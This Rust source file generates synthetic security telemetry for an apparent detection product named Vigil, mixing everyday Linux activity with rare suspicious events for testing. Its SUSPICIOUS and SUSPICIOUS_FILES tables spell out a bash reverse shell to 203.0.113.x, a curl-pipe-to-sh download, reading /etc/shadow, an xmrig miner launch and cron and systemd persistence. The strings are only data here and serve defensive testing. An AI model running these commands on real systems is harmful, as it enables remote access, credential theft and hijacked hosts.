//! Realistic events: everyday and suspicious process launches, network connections, file
//! activity and logons, as Vigil's sensor reports them.

use serde_json::{Value, json};
use vigil_ocsf::Event;

use super::Rng;

/// Everyday command lines on a Linux server or workstation, `{}` replaced by a variable part.
const EVERYDAY: &[(&str, &str)] = &[
    ("/usr/bin/ls", "ls -la /home/{}"),
    ("/usr/bin/ls", "ls --color=auto"),
    ("/usr/bin/git", "git status --short"),
    ("/usr/bin/git", "git log --oneline -n {}"),
    ("/usr/bin/git", "git fetch origin main"),
    ("/usr/bin/cat", "cat /etc/os-release"),
    ("/usr/bin/grep", "grep -rn TODO src/{}"),
    ("/usr/bin/ps", "ps aux"),
    ("/usr/bin/df", "df -h"),
    ("/usr/bin/du", "du -sh /var/lib/{}"),
    (
        "/usr/bin/python3",
        "python3 manage.py runserver 0.0.0.0:8000",
    ),
    (
        "/usr/bin/python3",
        "/usr/bin/python3 /usr/bin/unattended-upgrade",
    ),
    ("/usr/bin/node", "node /srv/app/server.js --port {}"),
    ("/usr/bin/npm", "npm ci --no-audit"),
    ("/usr/bin/cargo", "cargo build --release -p {}"),
    (
        "/usr/bin/rustc",
        "rustc --crate-name {} --edition=2021 src/lib.rs --crate-type lib",
    ),
    ("/usr/bin/cc", "cc -O2 -c {}.c -o {}.o"),
    ("/usr/bin/make", "make -j8"),
    ("/usr/bin/systemctl", "systemctl status nginx"),
    ("/usr/bin/journalctl", "journalctl -u nginx --since today"),
    ("/usr/bin/vim", "vim /etc/nginx/sites-available/{}"),
    ("/usr/bin/tar", "tar -czf /backup/{}.tar.gz /srv/data"),
    ("/usr/bin/rsync", "rsync -a /srv/ backup:/srv/{}"),
    ("/usr/bin/ssh", "ssh deploy@10.0.0.{}"),
    ("/usr/bin/curl", "curl -s https://api.example.com/health/{}"),
    (
        "/usr/bin/wget",
        "wget -q https://releases.example.com/pkg-{}.tar.gz",
    ),
    ("/usr/sbin/cron", "/usr/sbin/cron -f"),
    ("/bin/sh", "/bin/sh -c run-parts --report /etc/cron.hourly"),
    ("/usr/bin/bash", "-bash"),
    ("/usr/bin/bash", "bash -c echo {}"),
    (
        "/usr/bin/containerd-shim-runc-v2",
        "/usr/bin/containerd-shim-runc-v2 -namespace moby -id {} -address /run/containerd/containerd.sock",
    ),
    ("/usr/sbin/runc", "runc init"),
    ("/usr/bin/docker", "docker ps --format {}"),
    ("/usr/bin/kubectl", "kubectl get pods -A -o wide"),
    ("/usr/lib/systemd/systemd-journald", ""),
    ("/usr/sbin/sshd", "sshd: alice [priv]"),
    ("/usr/bin/sudo", "sudo apt-get update"),
    ("/usr/bin/apt-get", "apt-get install -y {}"),
    ("/usr/bin/sed", "sed -i s/foo/bar/ {}.conf"),
    ("/usr/bin/awk", "awk {print $1} /var/log/nginx/access.log"),
];

/// Attacker-ish command lines, about one event in a hundred.
const SUSPICIOUS: &[(&str, &str)] = &[
    (
        "/usr/bin/bash",
        "bash -i >& /dev/tcp/203.0.113.{}/4444 0>&1",
    ),
    ("/usr/bin/base64", "base64 -d /tmp/{}"),
    ("/usr/bin/curl", "curl -fsSL http://203.0.113.9/{}.sh | sh"),
    ("/usr/bin/chmod", "chmod +x /tmp/{}"),
    ("/usr/bin/whoami", "whoami"),
    ("/usr/bin/crontab", "crontab -l"),
    ("/usr/bin/uname", "uname -a"),
    ("/usr/bin/cat", "cat /etc/shadow"),
    ("/usr/bin/nohup", "nohup ./xmrig -o pool.minexmr.com:443"),
    ("/usr/bin/find", "find / -perm -4000 -type f"),
];

const PARENTS: &[(&str, &str)] = &[
    ("/usr/bin/bash", "-bash"),
    ("/usr/sbin/sshd", "sshd: alice@pts/0"),
    ("/usr/lib/systemd/systemd", "/sbin/init"),
    ("/usr/sbin/cron", "/usr/sbin/cron -f"),
    (
        "/usr/bin/containerd-shim-runc-v2",
        "/usr/bin/containerd-shim-runc-v2 -namespace moby",
    ),
    ("/usr/bin/node", "node /srv/app/server.js"),
    ("/usr/bin/python3", "python3 worker.py"),
];

pub const USERS: &[&str] = &["root", "alice", "bob", "www-data", "deploy"];

fn device() -> Value {
    json!({"type_id": 1, "hostname": "web-1", "uid": "sensor-1",
           "os": {"name": "Linux", "type_id": 200}})
}

/// A Process Activity launch.
pub fn launch(image: &str, cmd: &str, parent: (&str, &str), user: &str, time: i64) -> Event {
    let name = image.rsplit('/').next().unwrap_or(image);
    let pname = parent.0.rsplit('/').next().unwrap_or(parent.0);
    Event::from_value(json!({
        "class_uid": 1007, "activity_id": 1, "category_uid": 1, "type_uid": 100701,
        "time": time, "severity_id": 1,
        "metadata": {"version": "1.8.0", "product": {"name": "Vigil", "vendor_name": "Vigil"}},
        "device": device(),
        "process": {
            "pid": 4000 + time % 30_000, "name": name, "cmd_line": cmd,
            "file": {"path": image, "name": name, "type_id": 1},
            "user": {"name": user, "uid": "1000"},
            "working_directory": format!("/home/{user}"),
        },
        "actor": {"process": {
            "pid": 100, "name": pname, "cmd_line": parent.1,
            "file": {"path": parent.0, "name": pname, "type_id": 1},
            "user": {"name": user},
        }},
    }))
    .expect("valid launch")
}

/// A Network Activity connection; `inbound` gives `unmapped.initiated: "false"`.
pub fn connection(src: (&str, u16), dst: (&str, u16), inbound: bool, time: i64) -> Event {
    Event::from_value(json!({
        "class_uid": 4001, "activity_id": 1, "category_uid": 4, "type_uid": 400101,
        "time": time, "severity_id": 1,
        "metadata": {"version": "1.8.0", "product": {"name": "Vigil", "vendor_name": "Vigil"}},
        "device": device(),
        "src_endpoint": {"ip": src.0, "port": src.1},
        "dst_endpoint": {"ip": dst.0, "port": dst.1},
        "connection_info": {"protocol_name": "tcp", "direction_id": if inbound { 1 } else { 2 }},
        "actor": {"process": {"pid": 900, "file": {"path": "/usr/sbin/nginx"},
                              "cmd_line": "nginx: worker process", "user": {"name": "www-data"}}},
        "unmapped": {"initiated": if inbound { "false" } else { "true" }},
    }))
    .expect("valid connection")
}

/// A File System Activity record (`activity_id` 1 create, 2 read, 3 update, 4 delete) by a
/// process.
pub fn file_activity(path: &str, activity_id: u64, actor: (&str, &str), time: i64) -> Event {
    let name = path.rsplit('/').next().unwrap_or(path);
    let (exe, cmd) = actor;
    Event::from_value(json!({
        "class_uid": 1001, "activity_id": activity_id, "category_uid": 1,
        "type_uid": 100100 + activity_id, "time": time, "severity_id": 1,
        "metadata": {"version": "1.8.0", "product": {"name": "Vigil", "vendor_name": "Vigil"}},
        "device": device(),
        "file": {"path": path, "name": name, "type_id": 1},
        "actor": {"process": {"pid": 2000 + time % 5_000, "cmd_line": cmd,
                              "file": {"path": exe, "name": exe.rsplit('/').next().unwrap_or(exe)},
                              "user": {"name": "root"}}},
    }))
    .expect("valid file activity")
}

/// An Authentication logon record (`status_id` 1 success, 2 failure) by a service.
pub fn logon(service: &str, user: &str, src: Option<&str>, success: bool, time: i64) -> Event {
    let mut ev = json!({
        "class_uid": 3002, "activity_id": 1, "category_uid": 3, "type_uid": 300201,
        "time": time, "severity_id": 1,
        "metadata": {"version": "1.8.0", "product": {"name": "Vigil", "vendor_name": "Vigil"}},
        "device": device(),
        "status_id": if success { 1 } else { 2 },
        "status": if success { "Success" } else { "Failure" },
        "service": {"name": service}, "user": {"name": user},
        "is_remote": src.is_some(),
    });
    if let Some(ip) = src {
        ev["src_endpoint"] = json!({"ip": ip, "port": 50_000 + time % 10_000});
    }
    Event::from_value(ev).expect("valid logon")
}

/// Files everyday work writes and reads (`{}`: a variable part), and the writer.
const EVERYDAY_FILES: &[(&str, (&str, &str))] = &[
    (
        "/var/log/nginx/access.log",
        ("/usr/sbin/nginx", "nginx: worker process"),
    ),
    (
        "/var/lib/postgresql/15/main/base/{}",
        ("/usr/lib/postgresql/15/bin/postgres", "postgres: writer"),
    ),
    ("/tmp/tmp.{}", ("/usr/bin/bash", "bash build.sh")),
    (
        "/home/alice/.cache/pip/{}",
        ("/usr/bin/python3", "pip install -r requirements.txt"),
    ),
    (
        "/srv/app/uploads/{}.png",
        ("/usr/bin/node", "node /srv/app/server.js"),
    ),
    ("/etc/hosts", ("/usr/bin/cat", "cat /etc/hosts")),
    (
        "/var/cache/apt/archives/{}.deb",
        ("/usr/bin/apt-get", "apt-get install -y {}"),
    ),
    (
        "/run/containerd/io.containerd.runtime.v2.task/moby/{}/config.json",
        ("/usr/bin/containerd", "containerd"),
    ),
];

/// Files an intruder touches, about one file event in a hundred.
const SUSPICIOUS_FILES: &[(&str, (&str, &str))] = &[
    (
        "/etc/cron.d/{}",
        (
            "/usr/bin/bash",
            "bash -c echo * * * * * root sh > /etc/cron.d/{}",
        ),
    ),
    (
        "/etc/systemd/system/{}.service",
        ("/usr/bin/cp", "cp x /etc/systemd/system/{}.service"),
    ),
    ("/root/.ssh/authorized_keys", ("/usr/bin/bash", "bash")),
    (
        "/dev/shm/{}",
        ("/usr/bin/curl", "curl -o /dev/shm/{} http://203.0.113.9/x"),
    ),
];

/// `n` events: half process launches, a quarter network connections (inbound and outbound),
/// a fifth file activity, the rest logons; about one in a hundred of the launches and file
/// events suspicious, one logon in five a failure.
pub fn realistic_events(n: usize, seed: u64) -> Vec<Event> {
    let mut rng = Rng::new(seed);
    (0..n)
        .map(|i| {
            let time = 1_700_000_000_000 + i as i64 * 10;
            let var = |rng: &mut Rng| match rng.below(3) {
                0 => rng.below(200).to_string(),
                1 => rng.hex(8),
                _ => format!("app-{}", rng.below(50)),
            };
            let kind = rng.below(100);
            if kind < 50 {
                let table = if rng.chance(1) { SUSPICIOUS } else { EVERYDAY };
                let (image, cmd) = rng.pick(table);
                let cmd = cmd.replace("{}", &var(&mut rng));
                let parent = *rng.pick(PARENTS);
                let user = rng.pick(USERS);
                launch(image, &cmd, parent, user, time)
            } else if kind < 75 {
                let peer = format!("198.51.100.{}", rng.below(250));
                let port = 30_000 + rng.below(30_000) as u16;
                if rng.chance(50) {
                    connection(
                        (&peer, port),
                        ("10.0.0.5", *rng.pick(&[22, 443, 80])),
                        true,
                        time,
                    )
                } else {
                    let svc = *rng.pick(&[443u16, 80, 53, 5432, 6379]);
                    connection(("10.0.0.5", port), (&peer, svc), false, time)
                }
            } else if kind < 95 {
                let table = if rng.chance(1) {
                    SUSPICIOUS_FILES
                } else {
                    EVERYDAY_FILES
                };
                let (path, (exe, cmd)) = rng.pick(table);
                let v = var(&mut rng);
                let activity = 1 + rng.below(4) as u64;
                file_activity(
                    &path.replace("{}", &v),
                    activity,
                    (exe, &cmd.replace("{}", &v)),
                    time,
                )
            } else {
                let (service, src) = match rng.below(3) {
                    0 => ("sudo", None),
                    1 => ("su", None),
                    _ => ("sshd", Some(format!("198.51.100.{}", rng.below(250)))),
                };
                let user = rng.pick(USERS);
                logon(service, user, src.as_deref(), !rng.chance(20), time)
            }
        })
        .collect()
}
